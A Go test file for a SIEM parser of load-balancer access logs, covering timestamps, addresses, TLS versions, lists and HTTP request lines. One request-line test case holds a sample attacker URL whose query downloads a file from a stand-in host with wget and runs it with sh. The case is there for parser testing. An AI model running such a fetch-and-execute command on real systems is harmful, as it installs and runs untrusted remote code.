package elb

import (
	"encoding/json"
	"strconv"
	"testing"
	"time"

	"github.com/siem-go/siem/ecs"
)

func TestParseTime(t *testing.T) {
	tests := []struct {
		in   string
		want time.Time
		ok   bool
	}{
		{"2018-07-02T22:23:00.186641Z", time.Date(2018, 7, 2, 22, 23, 0, 186641000, time.UTC), true},
		{"2018-12-20T02:59:40", time.Date(2018, 12, 20, 2, 59, 40, 0, time.UTC), true},
		{"2018-07-02T22:22:48.364000Z", time.Date(2018, 7, 2, 22, 22, 48, 364000000, time.UTC), true},
		{"2024-02-29T00:00:00Z", time.Date(2024, 2, 29, 0, 0, 0, 0, time.UTC), true},
		{"2026-11-27T10:00:00.123456789Z", time.Date(2026, 11, 27, 10, 0, 0, 123456789, time.UTC), true},
		{"2026-11-27T12:00:00+02:00", time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC), true},
		{"2026-11-27T08:30:00-01:30", time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC), true},
		// A leap second is the start of the next second, as in
		// parser.ParseRFC3339.
		{"2016-12-31T23:59:60.500000Z", time.Date(2017, 1, 1, 0, 0, 0, 500000000, time.UTC), true},
		{"2026-11-27T10:00:61Z", time.Time{}, false},
		{"2023-02-29T00:00:00Z", time.Time{}, false}, // not a leap year
		{"2026-13-01T00:00:00Z", time.Time{}, false},
		{"2026-11-27T24:00:00Z", time.Time{}, false},
		{"2026-11-27T10:00:00.Z", time.Time{}, false},
		{"2026-11-27T10:00:00.1234567890Z", time.Time{}, false},
		{"2026-11-27T10:00:00ZZ", time.Time{}, false},
		{"2026-11-27T10:00", time.Time{}, false},
		{"http", time.Time{}, false},
		{"-", time.Time{}, false},
		{"2026-1x-27T10:00:00Z", time.Time{}, false},
	}
	for _, tt := range tests {
		got, ok := parseTime([]byte(tt.in))
		if ok != tt.ok || !got.Equal(tt.want) {
			t.Errorf("parseTime(%q) = %v, %v; want %v, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestSplitHostPortAndAddr(t *testing.T) {
	tests := []struct {
		in       string
		ip, port string
		ok       bool
	}{
		{"192.168.131.39:2817", "192.168.131.39", "2817", true},
		{"2001:db8:85a3::8a2e:370:7334:51234", "2001:db8:85a3::8a2e:370:7334", "51234", true},
		{"[2001:db8::42]:443", "2001:db8::42", "443", true},
		{"::ffff:192.0.2.1:80", "192.0.2.1", "80", true}, // a mapped address is written unmapped
		{"10.0.0.1", "", "", false},
		{"10.0.0.1:", "", "", false},
		{"10.0.0.1:99999", "", "", false},
		{"10.0.0.1:8x", "", "", false},
		{"[2001:db8::42]443", "", "", false},
		{"[2001:db8::42", "", "", false},
		{"300.1.1.1:80", "", "", false},
		{"01.2.3.4:80", "", "", false},
		{"1.2.3:80", "", "", false},
		{"1.2.3.4.5:80", "", "", false},
		{"host.example.com:80", "", "", false},
		{":80", "", "", false},
		// A zone is accepted, as netip accepts it, and dropped.
		{"[fe80::1%eth0]:443", "fe80::1", "443", true},
		{"[fe80::1%]:443", "", "", false},
		{"[10.0.0.1%eth0]:443", "", "", false},
	}
	for _, tt := range tests {
		e := entry{kind: kindCLB, fields: [][]byte{nil, nil, []byte(tt.in)}}
		ep, err := e.endpoint(clbClient)
		if (err == nil) != tt.ok {
			t.Errorf("endpoint(%q): err = %v, want ok %v", tt.in, err, tt.ok)
			continue
		}
		if !tt.ok {
			var fe *FieldError
			if fe, _ = err.(*FieldError); fe == nil || fe.Column != 3 || fe.Field != "client:port" || fe.Type != "clb" || fe.Value != tt.in {
				t.Errorf("endpoint(%q): error %#v does not name the field and value", tt.in, err)
			}
			continue
		}
		if got := ep.ip.Unmap().String(); got != tt.ip || string(ep.port) != tt.port {
			t.Errorf("endpoint(%q) = %s, %s; want %s, %s", tt.in, got, ep.port, tt.ip, tt.port)
		}
	}
}

func TestParseSecondsMatchesStrconv(t *testing.T) {
	for _, s := range []string{"0.000", "0.001", "0.000043", "0.00491", "1.5", "12", "0.186641", "3.141592653589793", "123456789.123456789", "0.1234567890123456789"} {
		got, ok := parseSeconds([]byte(s))
		want, _ := strconv.ParseFloat(s, 64)
		if !ok || got != want {
			t.Errorf("parseSeconds(%q) = %v, %v; want %v", s, got, ok, want)
		}
	}
	for _, s := range []string{"", ".", ".5", "5.", "-1", "1.2.3", "1e3", "abc", "0x10"} {
		if got, ok := parseSeconds([]byte(s)); ok {
			t.Errorf("parseSeconds(%q) = %v, want an error", s, got)
		}
	}
}

func TestParseTLSVersion(t *testing.T) {
	tests := []struct {
		protocol, version, name string
	}{
		{"TLSv1.2", "1.2", "tls"},
		{"TLSv1.3", "1.3", "tls"},
		{"TLSv1", "1.0", "tls"},
		{"tlsv12", "1.2", "tls"},
		{"tlsv13", "1.3", "tls"},
		{"tlsv10", "1.0", "tls"},
		{"tlsv1", "1.0", "tls"},
		{"SSLv3", "3.0", "ssl"},
		{"PROTOCOL-UNKNOWN", "", ""},
		{"v12", "", ""},
		{"TLSv", "", ""},
		{"TLSvX", "", ""},
		{"TLSv1.2.3.4.5.6", "", ""},
		{"VERYLONGNAMEv1", "", ""},
	}
	for _, tt := range tests {
		var ev ecs.Event
		if v, ok := parseTLSVersion([]byte(tt.protocol)); ok {
			v.set(&ev)
		}
		version, _ := ev.LookupString("tls.version")
		name, _ := ev.LookupString("tls.version_protocol")
		if version != tt.version || name != tt.name {
			t.Errorf("parseTLSVersion(%q) = %q %q, want %q %q", tt.protocol, version, name, tt.version, tt.name)
		}
	}
}

func TestAppendList(t *testing.T) {
	tests := []struct {
		in    string
		sep   byte
		trim  string
		want  string
		plain bool // whether the fast path, without escapes, applies
	}{
		{"forward,redirect", ',', "", `["forward","redirect"]`, true},
		{"waf", ',', "", `["waf"]`, true},
		{"10.0.1.14:8080 10.0.1.15:8080", ' ', "", `["10.0.1.14:8080","10.0.1.15:8080"]`, true},
		{"- 502", ' ', "", `["-","502"]`, true},
		{",,", ',', "", ``, true},
		{`"h2","http/1.1"`, ',', `"\`, `["h2","http/1.1"]`, true},
		{`\"http/1.1\"`, ',', `"\`, `["http/1.1"]`, true},
		{`a"b,c`, ',', "", `["a\"b","c"]`, false},
		{"caf\u00e9", ',', "", "[\"caf\u00e9\"]", false},
	}
	for _, tt := range tests {
		got, ok := appendList(nil, []byte(tt.in), tt.sep, tt.trim)
		if ok != tt.plain || ok && string(got) != tt.want {
			t.Errorf("appendList(%q) = %s, %v; want %s, %v", tt.in, got, ok, tt.want, tt.plain)
		}
		if got := string(appendListEscaped(nil, []byte(tt.in), tt.sep, tt.trim)); got != tt.want {
			t.Errorf("appendListEscaped(%q) = %s, want %s", tt.in, got, tt.want)
		}
		var ev ecs.Event
		setList(&ev, "x", []byte(tt.in), tt.sep, tt.trim)
		if got, _ := ev.Lookup("x"); string(got) != tt.want {
			t.Errorf("setList(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestParseRequest(t *testing.T) {
	tests := []struct {
		req  string
		want map[string]any
	}{
		{"GET http://www.example.com:80/ HTTP/1.1", map[string]any{
			"http.request.method": "GET", "http.version": "1.1", "url.original": "http://www.example.com:80/",
			"url.full": "http://www.example.com:80/", "url.scheme": "http", "url.domain": "www.example.com",
			"url.port": 80.0, "url.path": "/",
		}},
		{"GET https://shop.example.org:443/images/logo.png?v=3&size=large HTTP/2.0", map[string]any{
			"http.request.method": "GET", "http.version": "2.0",
			"url.original": "https://shop.example.org:443/images/logo.png?v=3&size=large",
			"url.full":     "https://shop.example.org:443/images/logo.png?v=3&size=large",
			"url.scheme":   "https", "url.domain": "shop.example.org", "url.port": 443.0,
			"url.path": "/images/logo.png", "url.extension": "png", "url.query": "v=3&size=large",
		}},
		// A space inside the URL, as attackers send them: the URL runs to the last space.
		{"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x HTTP/1.1", map[string]any{
			"http.request.method": "GET", "http.version": "1.1",
			"url.original": "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x",
			"url.full":     "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x",
			"url.scheme":   "http", "url.domain": "127.0.0.1", "url.port": 80.0, "url.path": "/shell",
			"url.query": "cd+/tmp;wget+ a.example/x;sh+/tmp/x",
		}},
		{"GET http://[2001:db8::100]:80/style.css#top HTTP/1.1", map[string]any{
			"http.request.method": "GET", "http.version": "1.1",
			"url.original": "http://[2001:db8::100]:80/style.css#top", "url.full": "http://[2001:db8::100]:80/style.css#top",
			"url.scheme": "http", "url.domain": "[2001:db8::100]", "url.port": 80.0, "url.path": "/style.css",
			"url.extension": "css", "url.fragment": "top",
		}},
		// What a load balancer writes for a request it could not parse.
		{"- http://www.example.com:80- -", map[string]any{
			"url.original": "http://www.example.com:80-",
			"url.scheme":   "http", "url.domain": "www.example.com", "url.port": 80.0,
		}},
		{"- - - ", map[string]any{}},
		{"OPTIONS * HTTP/1.1", map[string]any{"http.request.method": "OPTIONS", "http.version": "1.1", "url.original": "*"}},
		{"GET /relative/path.d/file?x=1 HTTP/1.0", map[string]any{
			"http.request.method": "GET", "http.version": "1.0", "url.original": "/relative/path.d/file?x=1",
			"url.path": "/relative/path.d/file", "url.query": "x=1",
		}},
		{"GET http://example.com/no-version", map[string]any{
			"http.request.method": "GET", "url.original": "http://example.com/no-version", "url.full": "http://example.com/no-version",
			"url.scheme": "http", "url.domain": "example.com", "url.path": "/no-version",
		}},
		{"garbage", map[string]any{}},
	}
	for _, tt := range tests {
		var ev ecs.Event
		r := parseRequest([]byte(tt.req))
		r.setMethod(&ev)
		r.setVersion(&ev)
		r.setURL(&ev)
		got := flatten(t, ev.AppendJSON(nil))
		if !equalJSON(got, tt.want) {
			t.Errorf("parseRequest(%q):\n got %v\nwant %v", tt.req, got, tt.want)
		}
	}
}

// TestRequestHostIP pins the address taken from a URL host for
// related.ip: a zone is accepted and dropped, as netip accepts it, and a
// host that is not an address gives none.
func TestRequestHostIP(t *testing.T) {
	for req, want := range map[string]string{
		"GET http://192.0.2.1:80/ HTTP/1.1":          "192.0.2.1",
		"GET http://[2001:db8::100]:80/ HTTP/1.1":    "2001:db8::100",
		"GET http://[fe80::1%25eth0]:80/ HTTP/1.1":   "fe80::1",
		"GET http://192.0.2.1%25eth0:80/ HTTP/1.1":   "invalid IP",
		"GET http://www.example.com:80/ HTTP/1.1":    "invalid IP",
		"GET http://[2001:db8::100%]:80/ HTTP/1.1":   "invalid IP",
		"GET http://0192.0.2.1:80/index.html HTTP/1": "invalid IP",
	} {
		if got := parseRequest([]byte(req)).hostIP.String(); got != want {
			t.Errorf("parseRequest(%q).hostIP = %s, want %s", req, got, want)
		}
	}
}

// flatten decodes a document into dotted paths and their values.
func flatten(t testing.TB, doc []byte) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(doc, &m); err != nil {
		t.Fatalf("invalid JSON %s: %v", doc, err)
	}
	return flattenMap(m)
}

func flattenMap(m map[string]any) map[string]any {
	out := map[string]any{}
	var walk func(prefix string, v any)
	walk = func(prefix string, v any) {
		if obj, ok := v.(map[string]any); ok {
			for k, c := range obj {
				if prefix != "" {
					k = prefix + "." + k
				}
				walk(k, c)
			}
			return
		}
		out[prefix] = v
	}
	walk("", m)
	return out
}

func equalJSON(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return string(x) == string(y)
}
